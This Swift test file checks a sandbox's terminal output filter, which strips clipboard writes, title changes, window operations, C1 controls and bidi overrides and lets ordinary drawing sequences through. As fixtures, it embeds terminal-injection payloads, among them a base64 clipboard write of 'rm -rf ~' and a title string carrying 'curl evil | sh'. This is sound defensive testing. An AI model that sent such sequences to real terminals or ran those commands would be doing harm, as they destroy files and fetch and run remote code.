import Testing

@testable import Sandbox

/// What a `-t` payload's output may do to the caller's terminal: drawing passes, OSC 52
/// (clipboard), titles, DCS/APC/PM strings, window operations and C1 controls do not, however
/// the bytes are split across reads, and an endless sequence is never buffered without bound.
struct TerminalOutputFilterTests {
    struct Case: Sendable, CustomTestStringConvertible {
        var name: String
        var input: [UInt8]
        var expected: [UInt8]
        var testDescription: String { name }

        init(_ name: String, _ input: String, _ expected: String) {
            self.name = name
            self.input = Array(input.utf8)
            self.expected = Array(expected.utf8)
        }

        init(_ name: String, bytes input: [UInt8], _ expected: [UInt8]) {
            self.name = name
            self.input = input
            self.expected = expected
        }
    }

    static let cases: [Case] = [
        Case("plain text and line endings", "hello\r\nworld\t!\u{8}", "hello\r\nworld\t!\u{8}"),
        Case("UTF-8 text", "h\u{e9}llo \u{2603} \u{1F600} \u{a0}", "h\u{e9}llo \u{2603} \u{1F600} \u{a0}"),
        Case(
            "SGR colours", "\u{1B}[1;31mred\u{1B}[0m \u{1B}[38;2;1;2;3mrgb\u{1B}[m",
            "\u{1B}[1;31mred\u{1B}[0m \u{1B}[38;2;1;2;3mrgb\u{1B}[m"),
        Case(
            "cursor movement and clearing", "\u{1B}[2J\u{1B}[H\u{1B}[10;5H\u{1B}[K\u{1B}[?25l\u{1B}[?1049h",
            "\u{1B}[2J\u{1B}[H\u{1B}[10;5H\u{1B}[K\u{1B}[?25l\u{1B}[?1049h"),
        Case(
            "save, restore, charset, keypad", "\u{1B}7\u{1B}8\u{1B}(0q\u{1B}(B\u{1B}=\u{1B}>\u{1B}M\u{1B}#8",
            "\u{1B}7\u{1B}8\u{1B}(0q\u{1B}(B\u{1B}=\u{1B}>\u{1B}M\u{1B}#8"),
        Case("bell alone passes", "ding\u{7}", "ding\u{7}"),
        Case("OSC 52 clipboard write (BEL)", "a\u{1B}]52;c;cm0gLXJmIH4=\u{7}b", "ab"),
        Case("OSC 52 clipboard write (ST)", "a\u{1B}]52;c;cm0gLXJmIH4=\u{1B}\\b", "ab"),
        Case("OSC 0/1/2 titles", "\u{1B}]0;pwned\u{7}\u{1B}]1;icon\u{7}\u{1B}]2;title\u{1B}\\ok", "ok"),
        Case("OSC 50 font, 4 palette, 10 colour query", "\u{1B}]50;fixed\u{7}\u{1B}]4;1;#ff0000\u{7}\u{1B}]10;?\u{7}x", "x"),
        Case("OSC without parameters", "\u{1B}]104\u{7}x", "x"),
        // A link's text may name another target than it opens: the text stays, the link goes.
        Case("OSC 8 hyperlink is dropped, its text stays", "\u{1B}]8;;https://example.com/\u{1B}\\link\u{1B}]8;;\u{1B}\\", "link"),
        Case("OSC 8 with a non-ASCII byte is dropped", "\u{1B}]8;;http://x/\u{e9}\u{7}text", "text"),
        Case("DCS (DECRQSS, sixel)", "\u{1B}P$qm\u{1B}\\\u{1B}Pq#0;2;0;0;0\u{1B}\\ok", "ok"),
        Case("APC, PM, SOS", "\u{1B}_Gf=100;AAAA\u{1B}\\\u{1B}^pm\u{1B}\\\u{1B}Xsos\u{1B}\\ok", "ok"),
        Case("window ops: title report, resize, move, iconify", "\u{1B}[21t\u{1B}[8;100;300t\u{1B}[3;0;0t\u{1B}[2t\u{1B}[22;0tok", "ok"),
        Case("UTF-8 switch is dropped", "\u{1B}%@x\u{1B}%Gy", "xy"),
        Case("ENQ (answerback) is dropped", "a\u{5}b", "ab"),
        Case("a C0 control inside CSI acts at once", "\u{1B}[1\n;2H", "\n\u{1B}[1;2H"),
        Case("CAN cancels a sequence", "\u{1B}[31\u{18}m", "m"),
        Case("ESC inside a string aborts it and starts anew", "\u{1B}]0;title\u{1B}[1mbold", "\u{1B}[1mbold"),
        Case("ESC inside CSI starts anew", "\u{1B}[12\u{1B}[2J", "\u{1B}[2J"),
        Case(
            "raw 8-bit C1: CSI, OSC, DCS", bytes: [0x9B, 0x32, 0x31, 0x74, 0x9D, 0x30, 0x3B, 0x78, 0x07, 0x90, 0x41],
            [0x32, 0x31, 0x74, 0x30, 0x3B, 0x78, 0x07, 0x41]),
        Case(
            "UTF-8 encoded C1 CSI and OSC", bytes: [0xC2, 0x9B, 0x32, 0x31, 0x74, 0xC2, 0x9D, 0x32],
            [0x32, 0x31, 0x74, 0x32]),
        Case("continuation bytes of a real character pass", bytes: [0xE2, 0x9B, 0x84, 0x41], [0xE2, 0x9B, 0x84, 0x41]),
    ]

    /// Issue 53, R6: an allow-list. What the filter does not know to be harmless is dropped:
    /// screen's title string, C1 controls however encoded, window resizes, screen-content and
    /// state reports, and every sequence or control not on the list.
    static let refused: [Case] = [
        Case("screen/tmux title (ESC k ... ST)", "a\u{1B}kpwned; curl evil | sh\u{1B}\\b", "ab"),
        Case("screen/tmux title ended by BEL", "a\u{1B}ktitle\u{7}b", "ab"),
        Case("UTF-8 encoded C1 NEL and ST", bytes: [0x61, 0xC2, 0x85, 0xC2, 0x9C, 0x62], [0x61, 0x62]),
        Case("overlong UTF-8 C1 CSI (3 bytes)", bytes: [0xE0, 0x82, 0x9B, 0x32, 0x31, 0x74], [0x32, 0x31, 0x74]),
        Case("overlong UTF-8 C1 CSI (4 bytes)", bytes: [0xF0, 0x80, 0x82, 0x9B, 0x41], [0x41]),
        Case("C1 CSI after a lead byte it cannot follow", bytes: [0xE0, 0x9B, 0x32, 0x31, 0x74], [0x32, 0x31, 0x74]),
        Case("C1 CSI inside a four-byte lead", bytes: [0xF4, 0x9B, 0x41], [0x41]),
        Case("overlong two-byte forms", bytes: [0xC0, 0x9B, 0xC1, 0x9B, 0x41], [0x41]),
        Case("surrogates and bytes UTF-8 never uses", bytes: [0xED, 0xA0, 0x80, 0xF5, 0xFE, 0xFF, 0x41], [0x41]),
        Case("a stray continuation byte", bytes: [0x41, 0xA0, 0xBF, 0x42], [0x41, 0x42]),
        Case("a truncated character before ESC", bytes: [0xE2, 0x9B, 0x1B, 0x5B, 0x6D], [0x1B, 0x5B, 0x6D]),
        Case("resize: DECCOLM, DECSCPP, DECSNLS, DECSLPP", "\u{1B}[?3h\u{1B}[?40;3l\u{1B}[132$|\u{1B}[60*|\u{1B}[72tok", "ok"),
        Case("resize and report: CSI 8;h;w t with intermediates", "\u{1B}[8;1000;1000t\u{1B}[>0;1t\u{1B}[1 tok", "ok"),
        Case("DECRQCRA (screen checksum report)", "\u{1B}[1;1;1;1;24;80*yok", "ok"),
        Case(
            "reports of state: DECRQM, XTVERSION, kitty keys, DECREQTPARM, DA3, DECXCPR",
            "\u{1B}[?2026$p\u{1B}[2$p\u{1B}[>0q\u{1B}[?u\u{1B}[>1u\u{1B}[x\u{1B}[=c\u{1B}[?6nok", "ok"),
        Case("media copy, LEDs, protection, key modifiers", "\u{1B}[5i\u{1B}[1q\u{1B}[1\"q\u{1B}[>4;2m\u{1B}[>1;2Tok", "ok"),
        Case("keyboard lock, local echo, newline mode", "\u{1B}[2h\u{1B}[12l\u{1B}[20h\u{1B}[4;2hok", "ok"),
        Case("a mode list with one unknown member", "\u{1B}[?25;1034h\u{1B}[?1049;3lok", "ok"),
        Case("unknown finals and intermediates", "\u{1B}[5~\u{1B}[1%z\u{1B}[1;2$r\u{1B}[2 @\u{1B}[1:2Hok", "ok"),
        Case("malformed parameters", "\u{1B}[1?2m\u{1B}[1 2m\u{1B}[?1;?2hok", "ok"),
        Case("ESC SP (8-bit replies), DECID, single shifts", "\u{1B} G\u{1B} F\u{1B}Z\u{1B}N\u{1B}O\u{1B}n\u{1B}lok", "ok"),
        Case("multi-byte charset and stray ST", "\u{1B}$B\u{1B}(%5\u{1B}\\ok", "ok"),
        Case("DEL and C0 controls off the list", "a\u{0}\u{7F}\u{B}\u{C}\u{11}\u{13}\u{1C}b", "ab"),
        // Issue 78: what `DisplayText` escapes is what the relay drops; a terminal with bidi
        // (VTE) would reorder a line around these ("Trojan Source").
        Case("bidi overrides, isolates and marks", "a\u{202E}cba\u{202C} \u{2066}x\u{2069}\u{200F}\u{61C}b", "acba xb"),
    ]

    /// What interactive programs need passes as it is.
    static let passed: [Case] = [
        Case("cursor style, soft reset, tab clear", "\u{1B}[2 q\u{1B}[!p\u{1B}[3g\u{1B}[0 q", "\u{1B}[2 q\u{1B}[!p\u{1B}[3g\u{1B}[0 q"),
        Case(
            "scroll region, insert, delete, erase", "\u{1B}[1;20r\u{1B}[2L\u{1B}[3M\u{1B}[4P\u{1B}[5@\u{1B}[6X\u{1B}[3J\u{1B}[?2K",
            "\u{1B}[1;20r\u{1B}[2L\u{1B}[3M\u{1B}[4P\u{1B}[5@\u{1B}[6X\u{1B}[3J\u{1B}[?2K"),
        Case(
            "modes: cursor keys, mouse, bracketed paste, synchronized output, insert",
            "\u{1B}[?1h\u{1B}[?1000;1006h\u{1B}[?2004h\u{1B}[?2026l\u{1B}[4l",
            "\u{1B}[?1h\u{1B}[?1000;1006h\u{1B}[?2004h\u{1B}[?2026l\u{1B}[4l"),
        Case(
            "fixed reports: cursor position, status, device attributes", "\u{1B}[6n\u{1B}[5n\u{1B}[c\u{1B}[>c\u{1B}[0c",
            "\u{1B}[6n\u{1B}[5n\u{1B}[c\u{1B}[>c\u{1B}[0c"),
        Case("SGR sub-parameters (curly underline)", "\u{1B}[4:3m\u{1B}[58:2::1:2:3m", "\u{1B}[4:3m\u{1B}[58:2::1:2:3m"),
        Case(
            "shift in and out, reset, index, line attributes", "\u{E}q\u{F}\u{1B}c\u{1B}D\u{1B}E\u{1B}#6",
            "\u{E}q\u{F}\u{1B}c\u{1B}D\u{1B}E\u{1B}#6"),
        Case("the largest scalars and U+00A0 right after the C1 range", "\u{10FFFF}\u{FFFD}\u{A0}\u{7E}", "\u{10FFFF}\u{FFFD}\u{A0}\u{7E}"),
    ]

    static let all = cases + refused + passed

    @Test(arguments: all)
    func wholeInput(_ testCase: Case) {
        var filter = TerminalOutputFilter()
        #expect(filter.filter(testCase.input) == testCase.expected)
        #expect(filter.heldCount == 0)
    }

    /// The same inputs one byte per read, and split at every position in two reads.
    @Test(arguments: all)
    func splitInput(_ testCase: Case) {
        var filter = TerminalOutputFilter()
        var output: [UInt8] = []
        for byte in testCase.input { filter.filter([byte], into: &output) }
        #expect(output == testCase.expected, "one byte per read")
        for cut in 0...testCase.input.count {
            var filter = TerminalOutputFilter()
            var output = filter.filter(testCase.input[..<cut])
            output += filter.filter(testCase.input[cut...])
            #expect(output == testCase.expected, "split at \(cut)")
        }
    }

    /// An incomplete sequence at the end is held back, so the caller's next output cannot complete it.
    @Test func anIncompleteSequenceIsNeverWritten() {
        var filter = TerminalOutputFilter()
        #expect(filter.filter(Array("text\u{1B}[2".utf8)) == Array("text".utf8))
        #expect(filter.filter(Array("1".utf8)) == [])
        var hyperlink = TerminalOutputFilter()
        #expect(hyperlink.filter(Array("\u{1B}]8;;https://a".utf8)) == [])
    }

    /// A never-terminated string or sequence holds at most a bounded number of bytes, however
    /// much follows, and the stream recovers at the next terminator.
    @Test func anEndlessSequenceStaysBounded() {
        let openings = [("\u{1B}]52;c;", "A"), ("\u{1B}]8;;", "A"), ("\u{1B}P", "A"), ("\u{1B}]", "A"), ("\u{1B}[", "1")]
        for (opening, filler) in openings {
            let chunk = [UInt8](repeating: UInt8(ascii: filler.unicodeScalars.first!), count: 64 << 10)
            var filter = TerminalOutputFilter()
            var output = filter.filter(Array(opening.utf8))
            for _ in 0..<64 {
                output += filter.filter(chunk)
                #expect(filter.heldCount <= TerminalOutputFilter.heldLimit, "\(opening.debugDescription)")
            }
            output += filter.filter(Array("\u{7}\u{1B}\\after".utf8))
            #expect(output.count < 4 << 10, "\(opening.debugDescription): \(output.count) bytes passed")
            #expect(String(decoding: output, as: UTF8.self).hasSuffix("after"), "\(opening.debugDescription)")
        }
    }
}
